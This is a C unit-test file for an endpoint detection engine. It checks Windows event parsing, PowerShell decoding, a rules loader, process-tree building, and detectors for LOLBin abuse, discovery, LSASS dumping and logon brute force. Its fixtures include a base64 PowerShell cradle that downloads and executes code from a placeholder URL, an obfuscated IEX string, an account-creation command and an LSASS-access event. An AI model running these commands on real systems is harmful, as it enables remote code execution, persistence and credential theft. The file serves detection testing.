/* Unit tests of the endpoint analytics (src/detect/): field parsing, the
 * PowerShell decoder, the rules loader, and the process tree, behaviour
 * and logon detectors on small hand-made event sequences whose answer
 * follows from the rules of Windows (pid reuse, parent links) and the
 * thresholds set in the test. */
#include <stdlib.h>
#include <string.h>

#include "core/event.h"
#include "core/field.h"
#include "core/rtime.h"
#include "detect/endpoint-int.h"
#include "detect/eprules.h"
#include "detect/logons.h"
#include "detect/proctree.h"
#include "detect/winev.h"
#include "unit.h"

#define SEC 1000000000LL
#define T0 ((int64_t)1600000000 * SEC)

void unit_endpoint_winev(struct unit *t)
{
  uint64_t v = 0;
  size_t n;
  CHECK_INT(t, wev_parse_u64("0x1f", 4, &v), 0);
  CHECK_INT(t, v, 31);
  CHECK_INT(t, wev_parse_u64(" 123 ", 5, &v), 0);
  CHECK_INT(t, v, 123);
  CHECK_INT(t, wev_parse_u64("0x", 2, &v), -1);
  CHECK_INT(t, wev_parse_u64("12a", 3, &v), -1);
  CHECK_INT(t, wev_parse_u64("", 0, &v), -1);
  CHECK_INT(t, wev_parse_u64("18446744073709551616", 20, &v), -1);
  CHECK_INT(t, wev_parse_u64("0x10000000000000000", 19, &v), -1);
  n = strlen("C:\\Windows\\System32\\cmd.exe");
  CHECK_STR(t, wev_basename("C:\\Windows\\System32\\cmd.exe", &n), "cmd.exe");
  CHECK_INT(t, n, 7);
  n = 3;
  CHECK_STR(t, wev_basename("abc", &n), "abc");
  CHECK(t, wev_ieq("LSASS.EXE", 9, "lsass.exe"));
  CHECK(t, !wev_ieq("lsass.ex", 8, "lsass.exe"));
  CHECK(t, wev_icontains("a DbgHelp.DLL+1", 15, "dbghelp.dll"));
  CHECK(t, !wev_icontains("dbghel", 6, "dbghelp"));
  CHECK_STR(t, rift_integrity_from_sid("S-1-16-12288"), "High");
  CHECK(t, rift_integrity_from_sid("S-1-16-1") == NULL);
}

void unit_endpoint_powershell(struct unit *t)
{
  char out[256];
  static const char b64[] =
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUA"
    "bgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8A"
    "eAAvAGEAJwApAA==";
  long n = ep_ps_decode(b64, strlen(b64), out, sizeof(out));
  CHECK_INT(t, n, 59);
  CHECK_STR(t, out, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
  n = ep_ps_decode("dwBoAG8AYQBtAGkA", 16, out, sizeof(out));
  CHECK_STR(t, out, "whoami");
  CHECK_INT(t, ep_ps_decode("not base64!", 11, out, sizeof(out)), -1);
  /* truncated to the buffer, still NUL-terminated */
  n = ep_ps_decode(b64, strlen(b64), out, 8);
  CHECK(t, n >= 0 && n < 8 && out[n] == 0);
  CHECK(t, ep_ps_obfuscation("Get-Process", 11) < 0.1);
  CHECK(t, ep_ps_obfuscation("I`E`X ('{1}{0}'-f'x','ie')", 26) > 0.3);
}

/* ---- rules ------------------------------------------------------------------- */

static unsigned long diag_count;
static char diag_last[512];

static void diag_keep(void *ctx, const struct rift_diag_msg *m)
{
  (void)ctx;
  diag_count++;
  snprintf(diag_last, sizeof(diag_last), "%s", m->text);
}

static rift_err load1(struct rift_eprules **r, const char *text)
{
  struct rift_diag d;
  const char *names[1] = { "test.yaml" };
  const char *texts[1] = { text };
  diag_count = 0;
  diag_last[0] = 0;
  rift_diag_init(&d, "rules", diag_keep, NULL);
  return rift_eprules_load_texts(r, names, texts, 1, &d);
}

void unit_endpoint_rules(struct unit *t)
{
  struct rift_eprules *r = NULL;
  rift_err rc;
  rc = load1(&r,
             "thresholds:\n"
             "  many_children: {count: 4, window: 30s}\n"
             "  brute_force: {failures: 3, window: 2m}\n"
             "lolbins:\n"
             "  - {name: RegSvr32.exe, techniques: [T1218.010]}\n"
             "rules:\n"
             "  - id: a\n"
             "    title: A\n"
             "    level: high\n"
             "    techniques: [T1000]\n"
             "    on: process\n"
             "    match: {name: '^cmd\\.exe$'}\n"
             "  - id: b\n"
             "    title: B\n"
             "    techniques: []\n"
             "    events: [security:4720, any:7]\n"
             "    group: 10m\n");
  CHECK_INT(t, rc, RIFT_OK);
  if(r) {
    CHECK_INT(t, r->nrules, 2);
    CHECK_INT(t, r->many_children, 4);
    CHECK_INT(t, r->many_children_ns, 30 * SEC);
    CHECK_INT(t, r->brute_failures, 3);
    CHECK_INT(t, r->brute_ns, 120 * SEC);
    CHECK_INT(t, r->spray_accounts, 10); /* default kept */
    CHECK(t, rift_epr_find(r->lolbins, r->nlolbins, "REGSVR32.EXE") != NULL);
    CHECK_INT(t, r->rules[0].meta.level, RIFT_LEVEL_HIGH);
    CHECK_INT(t, r->rules[1].meta.level, RIFT_LEVEL_MEDIUM);
    CHECK_INT(t, r->rules[1].meta.group_ns, 600 * SEC);
    CHECK_INT(t, r->rules[1].nevents, 2);
    CHECK_INT(t, r->rules[1].events[1].src, -1);
    CHECK(t, r->rules[1].meta.techniques && !r->rules[1].meta.techniques[0]);
  }
  rift_eprules_free(&r);
  CHECK(t, r == NULL);

  /* errors name the file and line, and the load fails */
  rc = load1(&r, "rules:\n  - id: x\n    title: X\n    techniques: [T1]\n"
             "    on: process\n    match: {name: '(unclosed'}\n");
  CHECK_INT(t, rc, RIFT_CORRUPT);
  CHECK(t, r == NULL);
  CHECK(t, strstr(diag_last, "test.yaml:6") != NULL);
  CHECK(t, strstr(diag_last, "regular expression") != NULL);
  rc = load1(&r, "rules:\n  - id: x\n    title: X\n    techniques: [T1000]\n"
             "    on: process\n    match: {ImagePath: 'x'}\n");
  CHECK_INT(t, rc, RIFT_CORRUPT); /* not a field of process rules */
  rc = load1(&r, "rules:\n  - id: x\n    title: X\n"
             "    events: [security:4720]\n");
  CHECK_INT(t, rc, RIFT_CORRUPT); /* no techniques list */
  rc = load1(&r, "rules:\n  - id: x\n    title: X\n    techniques: [T1000]\n"
             "    events: [nosuch:1]\n");
  CHECK_INT(t, rc, RIFT_CORRUPT);
  rc = load1(&r, "thresholds:\n  many_children: {window: 5 minutes}\n");
  CHECK_INT(t, rc, RIFT_CORRUPT);
  rc = load1(&r, "rules: [\n");
  CHECK_INT(t, rc, RIFT_CORRUPT);
  CHECK(t, strstr(diag_last, "test.yaml:") != NULL);
  rc = load1(&r, "rules:\n  - {id: x, title: X, techniques: [T1000], "
             "events: [security:1]}\n  - {id: x, title: Y, "
             "techniques: [T1000], events: [security:2]}\n");
  CHECK_INT(t, rc, RIFT_CORRUPT); /* duplicate id */

  /* the built-in copy loads */
  rc = rift_eprules_load(&r, NULL, NULL);
  CHECK_INT(t, rc, RIFT_OK);
  CHECK(t, r && r->nrules > 50 && r->ndisc > 10 && r->nlolbins > 10);
  rift_eprules_free(&r);
}

/* ---- hand-made events ----------------------------------------------------- */

struct ev {
  const char *provider;
  unsigned id;
  int64_t ts;
  const char *kv[24]; /* name, value, ..., NULL */
};

static void fill(struct rift_batch *b, const struct ev *v, size_t n)
{
  size_t i, k;
  for(i = 0; i < n; i++) {
    struct rift_event *e = rift_batch_add(b);
    e->provider = v[i].provider;
    e->host = "HOST1";
    e->ts = v[i].ts;
    e->file_id = 1;
    e->record_id = i + 1;
    e->offset = 4096 + i * 100;
    rift_event_add_uint(b, e, RIFT_F_WINLOG_EVENT_ID, v[i].id);
    for(k = 0; v[i].kv[k]; k += 2) {
      char name[128];
      int m = snprintf(name, sizeof(name), "winlog.event_data.%s",
                       v[i].kv[k]);
      rift_event_add_str(b, e, rift_field_id(name, (size_t)m), v[i].kv[k + 1],
                         strlen(v[i].kv[k + 1]));
    }
  }
}

#define SYS "Microsoft-Windows-Sysmon"
#define SEQ "Microsoft-Windows-Security-Auditing"

static uint32_t find_pid(const struct rift_proctree *pt, uint64_t pid,
                         int64_t start)
{
  uint32_t i;
  for(i = 1; i < pt->nprocs; i++)
    if(!pt->procs[i].merged && pt->procs[i].pid == pid &&
       pt->procs[i].start == start)
      return i;
  return 0;
}

void unit_endpoint_proctree(struct unit *t)
{
  /* pid 100 runs twice (pid reuse); children find the right one by time
   * and exit; a 4688 and a Sysmon 1 of one process merge; an orphan gets
   * an inferred parent shared with its sibling; two guids naming each
   * other as parent do not loop. */
  static const struct ev v[] = {
    { SEQ, 4688, T0, { "NewProcessId", "0x64", "NewProcessName",
                       "C:\\a\\first.exe", "ProcessId", "0x4", NULL } },
    { SEQ, 4688, T0 + 1 * SEC, { "NewProcessId", "0xc8", "NewProcessName",
                                 "C:\\a\\child1.exe", "ProcessId", "0x64",
                                 "ParentProcessName", "C:\\a\\first.exe",
                                 NULL } },
    { SEQ, 4689, T0 + 2 * SEC, { "ProcessId", "0x64", "ProcessName",
                                 "C:\\a\\first.exe", NULL } },
    /* between the two lives of pid 100: no parent */
    { SEQ, 4688, T0 + 3 * SEC, { "NewProcessId", "0x12c", "NewProcessName",
                                 "C:\\a\\lost.exe", "ProcessId", "0x64",
                                 NULL } },
    { SEQ, 4688, T0 + 4 * SEC, { "NewProcessId", "0x64", "NewProcessName",
                                 "C:\\a\\second.exe", "ProcessId", "0x4",
                                 NULL } },
    { SEQ, 4688, T0 + 5 * SEC, { "NewProcessId", "0x190", "NewProcessName",
                                 "C:\\a\\child2.exe", "ProcessId", "0x64",
                                 NULL } },
    /* the same process seen by Sysmon and by 4688 */
    { SYS, 1, T0 + 6 * SEC, { "ProcessGuid", "{G-1}", "ProcessId", "500",
                              "Image", "C:\\a\\both.exe", "CommandLine",
                              "both.exe -x", "ParentProcessGuid", "{G-0}",
                              "ParentProcessId", "4", "ParentImage",
                              "C:\\a\\sys.exe", NULL } },
    { SEQ, 4688, T0 + 6 * SEC + SEC / 2,
      { "NewProcessId", "0x1f4", "NewProcessName", "C:\\A\\BOTH.EXE",
        "ProcessId", "0x4", "SubjectUserName", "u", NULL } },
    /* activity by guid, logged before its process */
    { SYS, 3, T0 + 7 * SEC, { "ProcessGuid", "{G-2}", "ProcessId", "600",
                              "Image", "C:\\a\\net.exe", "DestinationIp",
                              "10.0.0.1", "DestinationPort", "443",
                              "Initiated", "true", NULL } },
    { SYS, 1, T0 + 6 * SEC, { "ProcessGuid", "{G-2}", "ProcessId", "600",
                              "Image", "C:\\a\\net.exe", "ParentProcessGuid",
                              "{G-0}", "ParentProcessId", "4", NULL } },
    /* a loop of guids */
    { SYS, 1, T0 + 8 * SEC, { "ProcessGuid", "{L-1}", "ProcessId", "700",
                              "Image", "C:\\l1.exe", "ParentProcessGuid",
                              "{L-2}", NULL } },
    { SYS, 1, T0 + 8 * SEC, { "ProcessGuid", "{L-2}", "ProcessId", "701",
                              "Image", "C:\\l2.exe", "ParentProcessGuid",
                              "{L-1}", NULL } },
  };
  struct rift_batch b;
  struct rift_proctree pt;
  uint32_t first, second, c1, c2, lost, both, net, l1, l2;
  rift_batch_init(&b);
  fill(&b, v, sizeof(v) / sizeof(v[0]));
  rift_proctree_init(&pt, NULL);
  CHECK_INT(t, rift_proctree_add_batch(&pt, &b), RIFT_OK);
  CHECK_INT(t, rift_proctree_finish(&pt), RIFT_OK);
  first = find_pid(&pt, 100, T0);
  second = find_pid(&pt, 100, T0 + 4 * SEC);
  c1 = find_pid(&pt, 200, T0 + SEC);
  c2 = find_pid(&pt, 400, T0 + 5 * SEC);
  lost = find_pid(&pt, 300, T0 + 3 * SEC);
  both = find_pid(&pt, 500, T0 + 6 * SEC);
  net = find_pid(&pt, 600, T0 + 6 * SEC);
  CHECK(t, first && second && c1 && c2 && lost && both && net);
  if(first && second && c1 && c2 && lost && both && net) {
    CHECK_INT(t, pt.procs[c1].parent, first);
    CHECK_INT(t, pt.procs[c2].parent, second);
    CHECK_INT(t, pt.procs[first].end, T0 + 2 * SEC);
    CHECK(t, pt.procs[second].end == RIFT_TIME_NONE);
    /* pid 100 had exited: lost.exe's parent is inferred, not first.exe */
    CHECK(t, pt.procs[lost].parent != first && pt.procs[lost].parent);
    CHECK_INT(t, pt.procs[pt.procs[lost].parent].src, RIFT_PROC_INFERRED);
    CHECK_INT(t, pt.st.merged, 1);
    CHECK_INT(t, pt.procs[both].src, RIFT_PROC_SYSMON);
    CHECK_STR(t, pt.procs[both].user, "u"); /* filled from the 4688 */
    /* both.exe and net.exe share the inferred parent {G-0} */
    CHECK(t, pt.procs[both].parent && pt.procs[both].parent ==
             pt.procs[net].parent);
    CHECK_STR(t, pt.procs[pt.procs[both].parent].name, "sys.exe");
    CHECK_INT(t, pt.procs[net].nact, 1);
    CHECK_INT(t, pt.procs[net].nact_kind[RIFT_PACT_NET], 1);
    CHECK_INT(t, rift_proctree_act(&pt, net, 0)->port, 443);
    CHECK_INT(t, rift_proctree_at(&pt, "host1", 100, T0 + 1 * SEC), first);
    CHECK_INT(t, rift_proctree_at(&pt, "HOST1", 100, T0 + 9 * SEC), second);
    CHECK_INT(t, rift_proctree_at(&pt, "host1", 100, T0 + 3 * SEC), 0);
    CHECK_INT(t, rift_proctree_by_guid(&pt, "host1", "{G-1}"), both);
  }
  l1 = rift_proctree_by_guid(&pt, "host1", "{L-1}");
  l2 = rift_proctree_by_guid(&pt, "host1", "{L-2}");
  CHECK(t, l1 && l2);
  CHECK(t, !(pt.procs[l1].parent == l2 && pt.procs[l2].parent == l1));
  CHECK_INT(t, pt.st.cycles, 1);
  rift_proctree_release(&pt);

  /* times from hostile input: differences of any two int64 are safe */
  {
    static const struct ev x[] = {
      { SEQ, 4688, INT64_MAX - 5, { "NewProcessId", "0x9", "NewProcessName",
                                    "a.exe", "ProcessId", "0x8", NULL } },
      { SEQ, 4688, INT64_MIN + 5, { "NewProcessId", "0x9", "NewProcessName",
                                    "a.exe", "ProcessId", "0x8", NULL } },
      { SYS, 1, INT64_MIN + 7, { "ProcessGuid", "{X}", "ProcessId", "9",
                                 "Image", "a.exe", NULL } },
    };
    struct rift_batch xb;
    rift_batch_init(&xb);
    fill(&xb, x, 3);
    rift_proctree_init(&pt, NULL);
    CHECK_INT(t, rift_proctree_add_batch(&pt, &xb), RIFT_OK);
    CHECK_INT(t, rift_proctree_finish(&pt), RIFT_OK);
    CHECK_INT(t, wev_gap(INT64_MAX, INT64_MIN), INT64_MAX);
    CHECK_INT(t, wev_gap(INT64_MIN, INT64_MAX), 0);
    CHECK_INT(t, wev_gap(5, 3), 2);
    rift_proctree_release(&pt);
    rift_batch_release(&xb);
  }

  /* caps: with room for 3 processes the rest is counted, not stored */
  {
    struct rift_proctree_limits lim = { 3, 1, 1, 1, 1 << 20 };
    rift_proctree_init(&pt, &lim);
    CHECK_INT(t, rift_proctree_add_batch(&pt, &b), RIFT_OK);
    CHECK_INT(t, rift_proctree_finish(&pt), RIFT_OK);
    CHECK(t, pt.nprocs <= 4 + 3 /* inferred nodes are capped too */);
    CHECK(t, pt.st.dropped_procs > 0);
    CHECK(t, pt.nacts <= 1);
    rift_proctree_release(&pt);
  }
  rift_batch_release(&b);
}

static int count_rule(const struct rift_endpoint *ep, const char *id)
{
  uint32_t i;
  int n = 0;
  for(i = 0; i < ep->nhits; i++)
    n += !strcmp(ep->hits[i].meta->id, id);
  return n;
}

struct fcount {
  int n;
  char ids[16][64];
  size_t nrefs[16];
};

static rift_err fc_emit(void *ctx, const struct rift_finding *f)
{
  struct fcount *c = ctx;
  if(c->n < 16) {
    snprintf(c->ids[c->n], sizeof(c->ids[0]), "%s", f->rule_id);
    c->nrefs[c->n] = f->nrefs;
  }
  c->n++;
  return RIFT_OK;
}

void unit_endpoint_behaviour(struct unit *t)
{
  /* regsvr32 starts 4 children within 30 s (threshold 4) and 3 kinds of
   * discovery follow in its tree; a later child 40 s on is outside the
   * many-children window. */
  static const struct ev v[] = {
    { SYS, 1, T0, { "ProcessGuid", "{R}", "ProcessId", "10", "Image",
                    "C:\\Windows\\System32\\regsvr32.exe", "CommandLine",
                    "regsvr32 /s x.dll", "User", "D\\bob", NULL } },
    { SYS, 1, T0 + 1 * SEC, { "ProcessGuid", "{C1}", "ProcessId", "11",
                              "Image", "C:\\Windows\\System32\\systeminfo.exe",
                              "ParentProcessGuid", "{R}", "User", "D\\bob",
                              NULL } },
    { SYS, 1, T0 + 2 * SEC, { "ProcessGuid", "{C2}", "ProcessId", "12",
                              "Image", "C:\\Windows\\System32\\ipconfig.exe",
                              "CommandLine", "ipconfig /all",
                              "ParentProcessGuid", "{R}", "User", "D\\bob",
                              NULL } },
    { SYS, 1, T0 + 3 * SEC, { "ProcessGuid", "{C3}", "ProcessId", "13",
                              "Image", "C:\\Windows\\System32\\net.exe",
                              "CommandLine", "net group \"domain admins\" /domain",
                              "ParentProcessGuid", "{R}", "User", "D\\bob",
                              NULL } },
    { SYS, 1, T0 + 4 * SEC, { "ProcessGuid", "{C4}", "ProcessId", "14",
                              "Image", "C:\\Windows\\System32\\conhost.exe",
                              "ParentProcessGuid", "{R}", NULL } },
    { SYS, 1, T0 + 5 * SEC, { "ProcessGuid", "{C5}", "ProcessId", "15",
                              "Image", "C:\\Windows\\System32\\net.exe",
                              "CommandLine", "net user eve /add",
                              "ParentProcessGuid", "{R}", "User", "D\\bob",
                              NULL } },
    { SYS, 1, T0 + 40 * SEC, { "ProcessGuid", "{C6}", "ProcessId", "16",
                               "Image", "C:\\Windows\\System32\\cmd.exe",
                               "ParentProcessGuid", "{R}", NULL } },
    { SYS, 3, T0 + 41 * SEC, { "ProcessGuid", "{R}", "ProcessId", "10",
                               "Image", "C:\\Windows\\System32\\regsvr32.exe",
                               "DestinationIp", "203.0.113.5",
                               "DestinationPort", "80", "Initiated", "true",
                               NULL } },
    { SYS, 10, T0 + 42 * SEC, { "SourceProcessGUID", "{C6}",
                                "SourceProcessId", "16", "SourceImage",
                                "C:\\Windows\\System32\\cmd.exe",
                                "TargetImage", "C:\\Windows\\system32\\lsass.exe",
                                "TargetProcessId", "600", "GrantedAccess",
                                "0x1010", "CallTrace",
                                "C:\\Windows\\SYSTEM32\\dbgcore.DLL+1", NULL } },
  };
  static const char rules[] =
    "thresholds:\n"
    "  many_children: {count: 4, window: 30s}\n"
    "  discovery_burst: {distinct: 3, window: 1m}\n"
    "lolbins:\n"
    "  - {name: regsvr32.exe, techniques: [T1218.010]}\n"
    "child_ignore: [conhost.exe]\n"
    "discovery:\n"
    "  - {names: [systeminfo.exe], what: system, techniques: [T1082]}\n"
    "  - {names: [ipconfig.exe], what: ip, techniques: [T1016]}\n"
    "  - {names: [net.exe], args: '^(?!.*/add).*\\bgroup\\b', what: groups, "
    "techniques: [T1069]}\n";
  struct rift_eprules *r = NULL;
  struct rift_endpoint ep;
  struct rift_batch b;
  struct fcount fc;
  struct rift_finding_sink sink = { fc_emit, &fc };
  int i, burst = -1;
  CHECK_INT(t, load1(&r, rules), RIFT_OK);
  if(!r)
    return;
  memset(&fc, 0, sizeof(fc));
  rift_batch_init(&b);
  fill(&b, v, sizeof(v) / sizeof(v[0]));
  rift_endpoint_init(&ep, r, RIFT_EP_ALL);
  CHECK_INT(t, rift_endpoint_add_batch(&ep, &b), RIFT_OK);
  CHECK_INT(t, rift_endpoint_finish(&ep, &sink), RIFT_OK);
  CHECK_INT(t, count_rule(&ep, "lolbin.child"), 1);
  CHECK_INT(t, count_rule(&ep, "lolbin.network"), 1);
  CHECK_INT(t, count_rule(&ep, "process.many_children"), 1);
  CHECK_INT(t, count_rule(&ep, "discovery.command"), 3); /* not net /add */
  CHECK_INT(t, count_rule(&ep, "discovery.burst"), 1);
  CHECK_INT(t, count_rule(&ep, "credential.lsass_dump"), 1);
  for(i = 0; i < fc.n && i < 16; i++)
    if(!strcmp(fc.ids[i], "discovery.burst"))
      burst = i;
  CHECK(t, burst >= 0 && fc.nrefs[burst] == 3);
  /* the lolbin's children (5, conhost ignored) are marked on the tree */
  {
    uint32_t k = rift_proctree_by_guid(&ep.pt, "host1", "{C3}");
    CHECK(t, k && ep.pt.procs[k].nmarks >= 2);
  }
  rift_endpoint_release(&ep);
  rift_batch_release(&b);
  rift_eprules_free(&r);
}

void unit_endpoint_logons(struct unit *t)
{
  /* threshold 3 failures in 2 minutes: 3 failures 50 s apart are a brute
   * force, 3 failures 90 s apart (180 s in all) are not; 4 accounts from
   * one source are a spray at 4, and a success after them is reported. */
  struct ev v[16];
  static const char rules[] =
    "thresholds:\n"
    "  brute_force: {failures: 3, window: 2m}\n"
    "  password_spray: {accounts: 4, window: 1h}\n"
    "  success_after_failures: {failures: 3}\n";
  static const char *const users[4] = { "ann", "bob", "cid", "dan" };
  struct rift_eprules *r = NULL;
  struct rift_endpoint ep;
  struct rift_batch b;
  size_t n = 0, i;
  memset(v, 0, sizeof(v));
  for(i = 0; i < 3; i++) {
    struct ev e = { SEQ, 4625, T0 + (int64_t)i * 50 * SEC,
                    { "TargetUserName", "zed", "IpAddress", "10.0.0.9",
                      "LogonType", "3", NULL } };
    v[n++] = e;
  }
  for(i = 0; i < 3; i++) {
    struct ev e = { SEQ, 4625, T0 + 1000 * SEC + (int64_t)i * 90 * SEC,
                    { "TargetUserName", "yan", "IpAddress", "10.0.0.8",
                      "LogonType", "3", NULL } };
    v[n++] = e;
  }
  for(i = 0; i < 4; i++) {
    struct ev e = { SEQ, 4625, T0 + 5000 * SEC + (int64_t)i * SEC,
                    { "TargetUserName", users[i], "IpAddress", "10.0.0.7",
                      "LogonType", "3", NULL } };
    v[n++] = e;
  }
  {
    struct ev e = { SEQ, 4624, T0 + 200 * SEC,
                    { "TargetUserName", "zed", "IpAddress", "10.0.0.9",
                      "LogonType", "3", NULL } };
    v[n++] = e;
  }
  CHECK_INT(t, load1(&r, rules), RIFT_OK);
  if(!r)
    return;
  rift_batch_init(&b);
  fill(&b, v, n);
  rift_endpoint_init(&ep, r, RIFT_EP_LOGONS);
  CHECK_INT(t, rift_endpoint_add_batch(&ep, &b), RIFT_OK);
  CHECK_INT(t, rift_endpoint_finish(&ep, NULL), RIFT_OK);
  CHECK_INT(t, count_rule(&ep, "logon.brute_force"), 1);
  for(i = 0; i < ep.nhits; i++) {
    if(!strcmp(ep.hits[i].meta->id, "logon.brute_force"))
      CHECK_STR(t, ep.hits[i].source_ip, "10.0.0.9");
    if(!strcmp(ep.hits[i].meta->id, "logon.password_spray"))
      CHECK_STR(t, ep.hits[i].source_ip, "10.0.0.7");
  }
  CHECK_INT(t, count_rule(&ep, "logon.password_spray"), 1);
  CHECK_INT(t, count_rule(&ep, "logon.success_after_failures"), 1);
  /* the table: one row per account and source */
  CHECK_INT(t, ep.lg.nrows, 6);
  rift_endpoint_release(&ep);
  rift_batch_release(&b);
  rift_eprules_free(&r);
}
